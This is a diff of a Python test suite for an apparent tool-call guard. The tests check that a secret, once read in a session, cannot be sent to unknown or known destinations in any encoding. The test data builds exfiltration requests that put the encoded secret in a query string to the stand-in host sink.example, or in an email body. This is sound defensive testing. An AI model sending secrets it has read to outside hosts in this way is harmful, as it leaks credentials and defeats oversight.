@@ -2,11 +2,9 @@
 
 from __future__ import annotations
 
-from collections.abc import Callable
 from pathlib import Path
 from urllib.parse import quote
 
-import pytest
 from tests.harness import code_of, open_world
 
 from toolward.lab.leaks.transforms import SEEN, UNSEEN
@@ -30,34 +28,30 @@ servers:
   mail: {command: never-started, destinations: [example.org]}
 """
 
-Transform = Callable[[str], str]
 
-
-@pytest.mark.parametrize("transform", [*SEEN.values(), *UNSEEN.values()], ids=[*SEEN, *UNSEEN])
-async def test_no_encoding_reaches_an_unknown_destination_after_the_read(
-    tmp_path: Path, transform: Transform
-) -> None:
-    url = f"https://sink.example/?q={quote(transform(SECRET), safe='')}"
+async def test_no_encoding_reaches_an_unknown_destination_after_the_read(tmp_path: Path) -> None:
+    """One world for all, a session for each: opening a world is most of what a test of one would take."""
     async with open_world(tmp_path, files=FILES) as world:
-        session = await world.session()
-        control = await world.call(session, "mail/fetch", {"url": url})
-        assert control.error is None, "without a secret in the session it may be fetched"
         world.upstreams.answers["files/read_secret"] = f"the code is {SECRET}"
-        await world.call(session, "files/read_secret")
-        assert code_of(await world.call(session, "mail/fetch", {"url": url})) == "denied"
-        assert [key for key, _, _ in world.upstreams.ran].count("mail/fetch") == 1
+        for name, transform in {**SEEN, **UNSEEN}.items():
+            url = f"https://sink.example/?q={quote(transform(SECRET), safe='')}"
+            session = await world.session()
+            control = await world.call(session, "mail/fetch", {"url": url})
+            assert control.error is None, f"{name}: without a secret in the session it may be fetched"
+            before = len(world.upstreams.ran)
+            await world.call(session, "files/read_secret")
+            assert code_of(await world.call(session, "mail/fetch", {"url": url})) == "denied", name
+            assert [key for key, _, _ in world.upstreams.ran[before:]] == ["files/read_secret"], name
 
 
-@pytest.mark.parametrize("transform", SEEN.values(), ids=list(SEEN))
-async def test_not_even_a_known_destination_receives_what_is_seen_through(
-    tmp_path: Path, transform: Transform
-) -> None:
-    said = {"to": "olga@example.org", "text": transform(SECRET)}
+async def test_not_even_a_known_destination_receives_what_is_seen_through(tmp_path: Path) -> None:
     async with open_world(tmp_path, files={**FILES, "toolward.yaml": WARD}) as world:
         world.upstreams.answers["files/read_secret"] = f"the code is {SECRET}"
-        session = await world.session()
-        await world.call(session, "files/read_secret")
-        assert code_of(await world.call(session, "mail/send", said)) == "denied"
+        for name, transform in SEEN.items():
+            said = {"to": "olga@example.org", "text": transform(SECRET)}
+            session = await world.session()
+            await world.call(session, "files/read_secret")
+            assert code_of(await world.call(session, "mail/send", said)) == "denied", name
         assert "mail/send" not in [key for key, _, _ in world.upstreams.ran]
 
 
